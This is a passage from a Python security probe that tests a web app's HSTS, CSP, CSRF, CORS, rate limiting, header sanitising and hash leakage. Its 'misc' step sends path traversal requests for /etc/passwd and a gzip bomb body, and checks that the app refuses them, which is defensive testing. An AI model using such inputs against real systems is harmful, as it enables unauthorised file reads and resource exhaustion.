            "/api/market/coins", headers={"X-Forwarded-Proto": "https", **fresh_ip()}
        )
        self.report.check(
            "max-age" in tls.headers.get("strict-transport-security", ""),
            "HSTS behind a TLS-terminating proxy (X-Forwarded-Proto: https)",
        )
        plain = await self.client.get("/api/market/coins", headers=fresh_ip())
        self.report.check(
            "strict-transport-security" not in plain.headers, "no HSTS over plain HTTP"
        )
        # Scripts on the app pages: CSP must not allow foreign script origins.
        csp = index.headers.get("content-security-policy", "")
        script_src = re.search(r"script-src ([^;]+)", csp)
        self.report.check(
            bool(script_src)
            and "*" not in (script_src.group(1) if script_src else "*")
            and "http:" not in csp
            and "https:" not in (script_src.group(1) if script_src else ""),
            "page CSP allows scripts from the own origin only",
            csp,
        )

    # ------------------------------------------------------------------ 8. CSRF and cookies

    async def csrf(self) -> None:
        section("CSRF double submit on the cookie refresh; cookie flags")
        user = await self.register()
        response = await self.login(user["username"])
        cookies = response.headers.get_list("set-cookie")
        refresh_cookie = next((c for c in cookies if c.startswith("refresh_token=")), "")
        csrf_cookie = next((c for c in cookies if c.startswith("csrf_token=")), "")
        low = refresh_cookie.lower()
        self.report.check(
            "httponly" in low and "samesite=strict" in low and "path=/api/users" in low,
            "refresh cookie: HttpOnly, SameSite=Strict, Path=/api/users",
            refresh_cookie,
        )
        self.report.check(
            bool(csrf_cookie) and "httponly" not in csrf_cookie.lower(),
            "csrf cookie readable by the page",
            csrf_cookie,
        )
        jar = dict(response.cookies)
        token = jar.get("csrf_token", "")

        async def cookie_refresh(
            headers: dict[str, str], cookies: dict[str, str]
        ) -> httpx.Response:
            async with httpx.AsyncClient(base_url=self.url, cookies=cookies, timeout=30) as c:
                return await c.post("/api/users/refresh", headers={**headers, **fresh_ip()})

        cases = {
            "no X-CSRF-Token": ({}, jar),
            "wrong X-CSRF-Token": ({"X-CSRF-Token": "0" * 64}, jar),
            "attacker-planted cookie + header": (
                {"X-CSRF-Token": "a" * 64},
                {**jar, "csrf_token": "a" * 64},
            ),
            "header without the csrf cookie": (
                {"X-CSRF-Token": token},
                {k: v for k, v in jar.items() if k != "csrf_token"},
            ),
        }
        for name, (headers, cookies_) in cases.items():
            r = await cookie_refresh(headers, cookies_)
            self.report.check(
                r.status_code == 403 and our_error(r),
                f"cookie refresh with {name}: 403",
                f"{r.status_code}",
            )
        r = await cookie_refresh({"X-CSRF-Token": token}, jar)
        self.report.check(r.status_code == 200, "cookie refresh with the right token: 200")
        # A cross-site form post (text/plain, no header) cannot refresh.
        async with httpx.AsyncClient(base_url=self.url, cookies=jar, timeout=30) as c:
            r = await c.post(
                "/api/users/refresh",
                content=b"x",
                headers={
                    "Content-Type": "text/plain",
                    "Origin": "https://evil.example",
                    **fresh_ip(),
                },
            )
        self.report.check(r.status_code in (401, 403, 422), "cross-site form post refused")

    # ------------------------------------------------------------------ 9. CORS

    async def cors(self) -> None:
        section("CORS")
        evil = "https://evil.example"
        r = await self.client.options(
            "/api/users/login",
            headers={"Origin": evil, "Access-Control-Request-Method": "POST", **fresh_ip()},
        )
        self.report.check(
            r.status_code >= 400 and "access-control-allow-origin" not in r.headers,
            "preflight from another site refused",
            f"{r.status_code} {dict(r.headers)}",
        )
        r = await self.client.get("/api/market/coins", headers={"Origin": evil, **fresh_ip()})
        self.report.check(
            "access-control-allow-origin" not in r.headers,
            "no ACAO for another site",
        )
        r = await self.client.get("/api/market/coins", headers={"Origin": "null", **fresh_ip()})
        self.report.check("access-control-allow-origin" not in r.headers, "no ACAO for null")
        own = self.url
        r = await self.client.options(
            "/api/users/login",
            headers={
                "Origin": "http://127.0.0.1:8000",
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "content-type,x-csrf-token",
                **fresh_ip(),
            },
        )
        self.report.note(
            f"preflight from the default allowed origin: {r.status_code} "
            f"ACAO={r.headers.get('access-control-allow-origin')}; own origin {own}"
        )

    # ------------------------------------------------------------------ 10. rate-limit scope

    async def limit_scope(self) -> None:
        section("Rate-limit scope: static assets, health, metrics unlimited; API limited")
        ip = {"X-Forwarded-For": next(IPS)}
        index = await self.client.get("/", headers=ip)
        assets = sorted(set(re.findall(r'(?:src|href)="(/_next/static/[^"]+)"', index.text)))
        self.report.note(f"the dashboard references {len(assets)} static assets")
        self.report.check(
            "x-ratelimit-limit" not in index.headers,
            "a page is not rate limited",
            str(index.headers.get("x-ratelimit-remaining")),
        )
        statuses: list[int] = []
        for _ in range(max(1, 400 // max(1, len(assets) + 1))):
            rs = await asyncio.gather(
                self.client.get("/", headers=ip),
                *(self.client.get(a, headers=ip) for a in assets),
            )
            statuses += [r.status_code for r in rs]
        self.report.check(
            429 not in statuses,
            f"{len(statuses)} page and asset loads from one IP: never 429",
            f"{statuses.count(429)}x429",
        )
        api = await self.client.get("/api/market/coins", headers=ip)
        self.report.check(
            api.status_code == 200 and "x-ratelimit-remaining" in api.headers,
            "after them the API still answers, with X-RateLimit headers",
            f"{api.status_code} remaining={api.headers.get('x-ratelimit-remaining')}",
        )
        if "x-ratelimit-limit" in api.headers:
            limit = int(api.headers["x-ratelimit-limit"])
            remaining = int(api.headers.get("x-ratelimit-remaining", "0"))
            self.report.check(
                remaining >= limit - 2,
                "static loads did not spend the API budget",
                f"{remaining}/{limit}",
            )
        for path in ("/health", "/health/ready", "/metrics"):
            rs = await asyncio.gather(*(self.client.get(path, headers=ip) for _ in range(60)))
            self.report.check(
                all(r.status_code != 429 for r in rs) and "x-ratelimit-limit" not in rs[0].headers,
                f"{path} is never limited",
            )
        # The anonymous API budget is finite.
        ip2 = {"X-Forwarded-For": next(IPS)}
        first = await self.client.get("/api/market/coins", headers=ip2)
        limit = int(first.headers.get("x-ratelimit-limit", "0") or 0)
        if limit and limit <= 2000:
            rs: list[httpx.Response] = []
            for _ in range(0, limit + 20, 100):
                rs += await asyncio.gather(
                    *(self.client.get("/api/meta", headers=ip2) for _ in range(100))
                )
            self.report.check(
                any(r.status_code == 429 for r in rs),
                f"the anonymous API budget ({limit}/min) is enforced",
            )

    # ------------------------------------------------------------------ 11. misc

    async def misc(self) -> None:
        section("Miscellany")
        r = await self.client.get("/api/users/me", headers={"X-Request-ID": "a b;c", **fresh_ip()})
        self.report.check(r.headers.get("x-request-id") != "a b;c", "unsafe X-Request-ID replaced")
        r = await self.client.get("/api/users/me", headers={"X-Request-ID": "<x>", **fresh_ip()})
        self.report.check(r.headers.get("x-request-id") != "<x>", "X-Request-ID <x> replaced")
        r = await self.client.get("/api/../../etc/passwd", headers=fresh_ip())
        self.report.check("root:" not in r.text, "no path traversal to /etc/passwd")
        r = await self.client.get("/_next/../../../../etc/passwd", headers=fresh_ip())
        self.report.check("root:" not in r.text, "no path traversal through the static files")
        r = await self.client.get("/%2e%2e/%2e%2e/%2e%2e/etc/passwd", headers=fresh_ip())
        self.report.check("root:" not in r.text, "no encoded path traversal")
        user = await self.register()
        r = await self.client.get(f"/api/admin/users/{user['id']}", headers=fresh_ip())
        body = r.text
        self.report.check("password" not in body and "$2b$" not in body, "no hash in answers")
        pair = await self.tokens(user["username"])
        me = await self.me(pair["access_token"])
        self.report.check("$2" not in me.text and "hash" not in me.text, "GET /me has no hash")
        dup = await self.client.post(
            "/api/users/register",
            json={
                "username": user["username"].upper(),
                "email": "other@example.com",
                "password": self.password,
            },
            headers=fresh_ip(),
        )
        self.report.check(dup.status_code == 409, "duplicate username (other case): 409")
        dup = await self.client.post(
            "/api/users/register",
            json={
                "username": "someone_new_x",
                "email": f"{user['username']}@EXAMPLE.com",
                "password": self.password,
            },
            headers=fresh_ip(),
        )
        self.report.check(
            dup.status_code == 409, "duplicate e-mail (other case): 409", f"{dup.status_code}"
        )
        gz = await self.client.post(
            "/api/users/login",
            content=gzip.compress(b"{}" + b" " * 5_000_000),
            headers={"Content-Encoding": "gzip", "Content-Type": "application/json", **fresh_ip()},
        )
        self.report.check(gz.status_code < 500, "a gzip bomb body is not inflated into a 5xx")

    async def run(self, only: list[str] | None) -> int:
        steps = {
            "tokens": self.forged_tokens,
            "replay": self.refresh_replay,
            "roles": self.cross_roles,
            "bodies": self.bodies,
            "injections": self.injections,
            "headers": self.headers,
            "csrf": self.csrf,
            "cors": self.cors,
            "limits": self.limit_scope,
            "misc": self.misc,
            "login": self.hammer_login,
        }
        for name, step in steps.items():
            if only and name not in only:
                continue
            try:
                await step()
            except Exception as exc:  # a crash of the probe is a finding too
                traceback.print_exc()
                self.report.check(False, f"{name}: probe step crashed", repr(exc))
        await self.client.aclose()
        return self.report.finish()


def _quote(value: str) -> str:
    from urllib.parse import quote

    # A lone surrogate goes out as its (invalid) UTF-8 bytes: %ED%A0%80.
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def _fill(schema: dict[str, Any], schemas: dict[str, Any], payload: str, depth: int = 0) -> Any:
    """A body for `schema` with the payload in every string field (numbers stay sane)."""
    if depth > 6:
        return None
    if "$ref" in schema:
        return _fill(schemas[schema["$ref"].split("/")[-1]], schemas, payload, depth + 1)
    for key in ("anyOf", "oneOf", "allOf"):
        if key in schema:
            options = [s for s in schema[key] if s.get("type") != "null"]
            return _fill(options[0], schemas, payload, depth + 1) if options else None
    kind = schema.get("type")
    if kind == "object" or "properties" in schema:
        return {
            name: _fill(sub, schemas, payload, depth + 1)
            for name, sub in schema.get("properties", {}).items()
        }
    if kind == "array":
        return [_fill(schema.get("items", {}), schemas, payload, depth + 1)]
    if kind == "integer":
        return 1
    if kind == "number":
        return 1.5
    if kind == "boolean":
        return True
    return payload


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--url", default="http://127.0.0.1:8000")
    parser.add_argument("--data-dir", type=Path, default=None)
    parser.add_argument(
        "--cli", default=str(Path(sys.executable).with_name("cryptodash")), help="cryptodash CLI"
    )
    parser.add_argument("--password", default="probe-password-" + secrets.token_hex(4))
    parser.add_argument("--only", nargs="*", help="steps to run (default: all)")
    args = parser.parse_args()
    probe = Probe(args.url, args.data_dir, args.cli, args.password)
    sys.exit(asyncio.run(probe.run(args.only)))


if __name__ == "__main__":
    main()
